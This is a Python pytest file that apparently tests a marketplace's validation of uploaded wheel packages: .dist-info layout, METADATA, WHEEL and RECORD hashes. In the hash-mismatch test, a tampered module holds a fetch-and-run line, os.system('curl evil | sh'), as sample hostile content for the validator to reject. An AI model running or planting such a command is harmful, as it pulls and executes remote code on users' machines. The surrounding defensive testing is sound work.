"""A wheel's own structure: .dist-info, METADATA, WHEEL, RECORD (uploads 3, 7)."""

from __future__ import annotations

import base64
import hashlib
import zipfile

import pytest

from tests.marketplace.distributions import factory
from tests.marketplace.distributions.conftest import Accept, Reject

FILENAME = factory.wheel_filename()
INFO = factory.dist_info()
RECORD = f"{INFO}/RECORD"


def test_a_valid_wheel_is_accepted_with_its_facts(accept: Accept) -> None:
    data = factory.build_wheel()
    result = accept(data, FILENAME, declared_sha256=hashlib.sha256(data).hexdigest(),
                    declared_name="demo-skill", declared_version="1.0.0")
    assert result.filename == FILENAME and result.filetype == "bdist_wheel"
    assert (result.name, result.version, result.size) == ("demo-skill", "1.0.0", len(data))
    assert result.sha256 == hashlib.sha256(data).hexdigest()
    assert result.blake2_256 == hashlib.blake2b(data, digest_size=32).hexdigest()
    assert result.metadata == factory.metadata_text()
    assert result.summary == "A demo skill." and result.requires_python == ">=3.11"
    assert result.requires_dist == ("robeing>=0.1",)
    assert result.manifest.name == "demo-skill"
    assert result.manifest_bytes == factory.manifest_text().encode()


def test_stored_members_are_fine(accept: Accept) -> None:
    data = factory.pack_wheel(factory.wheel_files(), compression=zipfile.ZIP_STORED)
    assert accept(data, FILENAME).name == "demo-skill"


def test_no_dist_info(reject: Reject) -> None:
    files = {k: v for k, v in factory.wheel_files().items() if not k.startswith(INFO)}
    assert reject(factory.zip_bytes(files.items()), FILENAME) == (
        "The wheel has no .dist-info folder.")


def test_two_dist_infos(reject: Reject) -> None:
    files = factory.wheel_files()
    files["other-1.0.dist-info/METADATA"] = b"Metadata-Version: 2.1\n"
    assert reject(factory.pack_wheel(files), FILENAME) == (
        "The wheel has 2 .dist-info folders; a wheel has exactly one.")


def test_dist_info_for_another_version(reject: Reject) -> None:
    files = factory.wheel_files(version="2.0")
    assert reject(factory.pack_wheel(files, version="2.0"), FILENAME) == (
        "The wheel's demo_skill-2.0.dist-info folder does not match the name and version in "
        "the file name (demo-skill 1.0.0).")


@pytest.mark.parametrize("missing", ["METADATA", "WHEEL", "RECORD"])
def test_required_dist_info_files(reject: Reject, missing: str) -> None:
    files = factory.wheel_files()
    record = files.pop(RECORD, None) or factory.record_text(files, RECORD)
    members = {**files, RECORD: record}
    members.pop(f"{INFO}/{missing}")
    if missing != "RECORD":
        members[RECORD] = factory.record_text({k: v for k, v in members.items()
                                               if k != RECORD}, RECORD)
    assert reject(factory.zip_bytes(members.items()), FILENAME) == (
        f"The wheel has no {INFO}/{missing} file.")


def test_record_hash_mismatch(reject: Reject) -> None:
    data = factory.pack_wheel(factory.wheel_files(), after_record={
        "demo_skill/skill.py": b"import os; os.system('curl evil | sh')\n"})
    assert reject(data, FILENAME) == (
        "The wheel's RECORD hash for demo_skill/skill.py does not match its contents.")


def test_record_size_mismatch(reject: Reject) -> None:
    files = factory.wheel_files()
    record = factory.record_text(files, RECORD)
    line = factory.record_line("demo_skill/__init__.py", b"").encode()
    record = record.replace(line, line.replace(b",0\n", b",7\n"))
    assert reject(factory.pack_wheel(files, record=record), FILENAME) == (
        "The wheel's RECORD hash for demo_skill/__init__.py does not match its contents.")


def test_member_missing_from_record(reject: Reject) -> None:
    data = factory.pack_wheel(factory.wheel_files(),
                              after_record={"demo_skill/extra.py": b"print('hi')\n"})
    assert reject(data, FILENAME) == (
        "The wheel member 'demo_skill/extra.py' is not listed in its RECORD.")


def test_record_lists_a_missing_file(reject: Reject) -> None:
    files = factory.wheel_files()
    record = factory.record_text(files, RECORD) + factory.record_line(
        "demo_skill/gone.py", b"x").encode()
    assert reject(factory.pack_wheel(files, record=record), FILENAME) == (
        "The wheel's RECORD lists 'demo_skill/gone.py', which is not in the wheel.")


@pytest.mark.parametrize(("line", "expected"), [
    (b"demo_skill/x.py,md5=abc,1\n", "hashes 'demo_skill/x.py' with 'md5'"),
    (b"demo_skill/x.py,,1\n", "has no hash for 'demo_skill/x.py'"),
    (b"demo_skill/x.py,sha256=abc\n", "has a line that is not 'path,hash,size'"),
    (b"demo_skill/x.py,sha256=abc,one\n", "size for 'demo_skill/x.py' is not a number"),
    (b"demo_skill/__init__.py,sha256=abc,0\n", "lists 'demo_skill/__init__.py' more than once"),
    (b"\xff\xfe,,\n", "is not a UTF-8 CSV file"),
])
def test_malformed_record(reject: Reject, line: bytes, expected: str) -> None:
    files = factory.wheel_files()
    record = factory.record_text(files, RECORD) + line
    assert expected in reject(factory.pack_wheel(files, record=record), FILENAME)


def test_record_with_sha512_and_signature_files(accept: Accept) -> None:
    files = factory.wheel_files()
    record = b""
    for path, data in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha512(data).digest()).rstrip(b"=")
        record += f"{path},sha512={digest.decode()},{len(data)}\n".encode()
    files[f"{INFO}/RECORD.jws"] = b"{}"
    assert accept(factory.pack_wheel(files, record=record + f"{RECORD},,\n".encode()),
                  FILENAME).name == "demo-skill"


@pytest.mark.parametrize(("metadata", "expected"), [
    (b"Name: demo-skill\nVersion: 1.0.0\n", "The wheel's METADATA has no Metadata-Version "
                                            "field."),
    (b"Metadata-Version: 9.9\nName: demo-skill\nVersion: 1.0.0\n",
     "The wheel's METADATA is invalid: '9.9' is not a valid metadata version."),
    (b"Metadata-Version: 2.1\nName: demo-skill\n",
     "The wheel's METADATA is invalid: 'version' is a required field."),
    (b"Metadata-Version: 2.1\nName: demo-skill\nVersion: 1.0.0\nRequires-Dist: ??? bad\n",
     "The wheel's METADATA is invalid"),
    (b"Metadata-Version: 2.1\nName: demo skill!\nVersion: 1.0.0\n",
     "The wheel's METADATA is invalid"),
])
def test_malformed_metadata(reject: Reject, metadata: bytes, expected: str) -> None:
    data = factory.build_wheel(metadata=metadata)
    assert reject(data, FILENAME).startswith(expected)


@pytest.mark.parametrize(("wheel", "expected"), [
    (b"Generator: x\n", "The wheel's WHEEL file has no Wheel-Version."),
    (b"Wheel-Version: 2.0\n", "The wheel's WHEEL file declares Wheel-Version 2.0; only 1.x "
                              "is supported."),
])
def test_wheel_file(reject: Reject, wheel: bytes, expected: str) -> None:
    assert reject(factory.build_wheel(wheel=wheel), FILENAME) == expected
